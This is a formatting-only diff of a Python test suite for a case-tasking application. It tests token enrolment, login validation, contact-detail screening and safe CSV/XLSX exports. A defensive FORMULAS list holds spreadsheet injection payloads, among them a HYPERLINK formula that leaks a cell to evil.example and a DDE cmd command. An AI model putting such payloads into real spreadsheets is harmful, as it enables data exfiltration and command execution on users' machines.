@@ -10,8 +10,15 @@ from pydantic import ValidationError
 
 from tasking.bootstrap import Services
 from tasking.commands import (
-    AddUser, CompleteTasking, EnrolUser, IssueToken, RaiseTasking, RecordFollowUp, RedeemEnrolment,
-    RevokeToken, send,
+    AddUser,
+    CompleteTasking,
+    EnrolUser,
+    IssueToken,
+    RaiseTasking,
+    RecordFollowUp,
+    RedeemEnrolment,
+    RevokeToken,
+    send,
 )
 from tasking.commands.setup import ChangeRole
 from tasking.commands.tokens import expiry, new_token, token_hash
@@ -23,7 +30,9 @@ from tests.conftest import Desk, at
 
 def refused(services: Services) -> list[dict]:
     services.catch_up()
-    return [dict(r) for r in services.open_views().db.query("SELECT * FROM access_log WHERE refused = 1 ORDER BY position")]
+    return [
+        dict(r) for r in services.open_views().db.query("SELECT * FROM access_log WHERE refused = 1 ORDER BY position")
+    ]
 
 
 def _token_for(services: Services, login: str, by: str) -> dict:
@@ -45,7 +54,9 @@ class TestImpersonation:
     def test_a_role_change_names_who_made_it(self, desk: Desk, services: Services) -> None:
         desk.send(ChangeRole, login="sgt.jones", role="analyst", reason="New post")
         services.catch_up()
-        change = services.open_views().db.execute("SELECT by, role FROM user_changes WHERE login = 'sgt.jones'").fetchone()
+        change = (
+            services.open_views().db.execute("SELECT by, role FROM user_changes WHERE login = 'sgt.jones'").fetchone()
+        )
         assert tuple(change) == ("coordinator", "analyst")
 
     @pytest.mark.parametrize("by", ["coordinator", "keeper"])
@@ -65,10 +76,14 @@ class TestImpersonation:
     def test_an_enrolled_user_redeems_the_code_once_for_their_own_token(self, people, services: Services) -> None:  # noqa: ANN001
         app, now = services.app, utcnow()
         code, code_digest = new_token("sgt.jones", kind="enr")
-        send(app, EnrolUser(user="coordinator", at=now, login="sgt.jones", code_hash=code_digest,
-                            expires_at=expiry(now, 7)))
+        send(
+            app,
+            EnrolUser(user="coordinator", at=now, login="sgt.jones", code_hash=code_digest, expires_at=expiry(now, 7)),
+        )
         token, digest = new_token("sgt.jones")
-        redeem = dict(at=now, login="sgt.jones", code_hash=token_hash(code), token_hash=digest, expires_at=expiry(now, 30))
+        redeem = dict(
+            at=now, login="sgt.jones", code_hash=token_hash(code), token_hash=digest, expires_at=expiry(now, 30)
+        )
         with pytest.raises(Forbidden, match="redeemed only by sgt.jones"):
             send(app, RedeemEnrolment(user="coordinator", **redeem))
         assert send(app, RedeemEnrolment(user="sgt.jones", **redeem))["token"] == "K1"
@@ -99,8 +114,9 @@ def test_only_the_tasked_agency_or_a_coordinator_completes_a_tasking(desk: Desk,
     desk.send(CompleteTasking, user="warden.grange", case=case, tasking=tasking, result="Done")
 
 
-@pytest.mark.parametrize("login", ["sgt.jones\u200b", "sgt\u202ejones", "sgt\x1b[31mjones", "Sgt.Jones",
-                                   "sgt jones", "sgt.jönes"])
+@pytest.mark.parametrize(
+    "login", ["sgt.jones\u200b", "sgt\u202ejones", "sgt\x1b[31mjones", "Sgt.Jones", "sgt jones", "sgt.jönes"]
+)
 def test_a_login_is_lower_case_letters_digits_dots_underscores_and_hyphens(desk: Desk, login: str) -> None:
     """Item 18: control, bidi and zero-width characters (and capitals, spaces) are refused."""
     with pytest.raises(ValidationError, match="a login is 1 to 64 of a-z, 0-9"):
@@ -117,13 +133,23 @@ def test_an_unknown_or_missing_user_is_refused_and_logged(people, services: Serv
     with pytest.raises(DomainError, match="user"):
         send(services.app, RevokeToken(user=user or "-", at=utcnow(), login="sgt.jones"))
     rows = refused(services)[before:]
-    assert [(r["action"], r["user"], r["role"]) for r in rows] == [("cases", user or "-", "-"),
-                                                                    ("users token", user or "-", "-")]
+    assert [(r["action"], r["user"], r["role"]) for r in rows] == [
+        ("cases", user or "-", "-"),
+        ("users token", user or "-", "-"),
+    ]
 
 
-@pytest.mark.parametrize("text", ["Call her on ０７７００ ９００１２３", "Ring 0 7 7 0 0 9 0 0 1 2 3",
-                                  "Ring 01732-000-000", "Email jo[at]example.com", "Email jo (at) example (dot) com",
-                                  "Mail ｊｏ＠ｅｘａｍｐｌｅ．ｃｏｍ"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Call her on ０７７００ ９００１２３",
+        "Ring 0 7 7 0 0 9 0 0 1 2 3",
+        "Ring 01732-000-000",
+        "Email jo[at]example.com",
+        "Email jo (at) example (dot) com",
+        "Mail ｊｏ＠ｅｘａｍｐｌｅ．ｃｏｍ",
+    ],
+)
 def test_the_contact_details_screen_sees_through_full_width_spacing_and_at(desk: Desk, text: str) -> None:
     """Item 20: the text is normalised (NFKC, separators between digits dropped, [at]/(at)) first."""
     case = desk.report("2018-03-02T10:00")
@@ -132,13 +158,21 @@ def test_the_contact_details_screen_sees_through_full_width_spacing_and_at(desk:
     desk.send(RecordFollowUp, case=case, kind="visit", outcome="Seen at 10.30 on 01/03/2018, 3 youths, 2 calls")
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_exports_never_carry_a_live_formula_and_xlsx_dates_are_dates(desk: Desk, services: Services, tmp_path,
-                                                                   fmt: str) -> None:  # noqa: ANN001
+def test_exports_never_carry_a_live_formula_and_xlsx_dates_are_dates(
+    desk: Desk, services: Services, tmp_path, fmt: str
+) -> None:  # noqa: ANN001
     """Item 27: OWASP's rule (a single quote before = + - @ tab CR) in every CSV and XLSX export."""
     import csv
 
@@ -169,18 +203,33 @@ def test_a_text_cell_is_neutralised_and_a_number_is_left_alone() -> None:
     from tasking.data.cells import neutral, xlsx_value
 
     assert [neutral(v) for v in ("\t=1", "\r=1", "-x", "Azalea Shops", -3, 2.5, None)] == [
-        "'\t=1", "'\r=1", "'-x", "Azalea Shops", -3, 2.5, None]
+        "'\t=1",
+        "'\r=1",
+        "'-x",
+        "Azalea Shops",
+        -3,
+        2.5,
+        None,
+    ]
     assert xlsx_value("2018-03-09") == dt.date(2018, 3, 9)
     assert xlsx_value("2018-07-01T08:00:00+01:00") == dt.datetime(2018, 7, 1, 7, 0)
 
 
-@pytest.mark.parametrize(("text", "cli_text", "rule"), [
-    ("25/03/2018 01:30", "2018-03-25T01:30", "does not exist in Europe/London: the clocks go forward from 01:00 to 02:00"),
-    ("29/10/2017 01:30", "2017-10-29T01:30", "happens twice in Europe/London (the clocks go back)"),
-])
+@pytest.mark.parametrize(
+    ("text", "cli_text", "rule"),
+    [
+        (
+            "25/03/2018 01:30",
+            "2018-03-25T01:30",
+            "does not exist in Europe/London: the clocks go forward from 01:00 to 02:00",
+        ),
+        ("29/10/2017 01:30", "2017-10-29T01:30", "happens twice in Europe/London (the clocks go back)"),
+    ],
+)
 @pytest.mark.parametrize("cell", ["text", "spreadsheet date"])
 def test_an_imported_time_in_the_spring_gap_or_autumn_overlap_is_refused_as_the_cli_refuses_it(
-        people, services: Services, text: str, cli_text: str, rule: str, cell: str) -> None:  # noqa: ANN001
+    people, services: Services, text: str, cli_text: str, rule: str, cell: str
+) -> None:  # noqa: ANN001
     """Item 28: one rule for every way in (`tasking.time.instants.wall_clock`), with the CLI's message."""
     from pathlib import Path
 
@@ -189,8 +238,15 @@ def test_an_imported_time_in_the_spring_gap_or_autumn_overlap_is_refused_as_the_
 
     mapping = Mapping.load(Path(__file__).resolve().parents[2] / "examples" / "housing-import.toml")
     value = text if cell == "text" else dt.datetime.strptime(text, "%d/%m/%Y %H:%M")
-    row = {"Case No": "WK-1", "Date Reported": value, "ASB Type": "Noise", "Parish": "Edenbridge",
-           "Street": "1 Azalea Drive", "Summary": "Loud music", "Risk": "Low"}
+    row = {
+        "Case No": "WK-1",
+        "Date Reported": value,
+        "ASB Type": "Noise",
+        "Parish": "Edenbridge",
+        "Street": "1 Azalea Drive",
+        "Summary": "Loud music",
+        "Risk": "Low",
+    }
     errors = prepare(2, row, mapping, services.app.config, None, "coordinator")
     assert isinstance(errors, list), "the row was accepted"
     [error] = [e for e in errors if e.column == "Date Reported"]
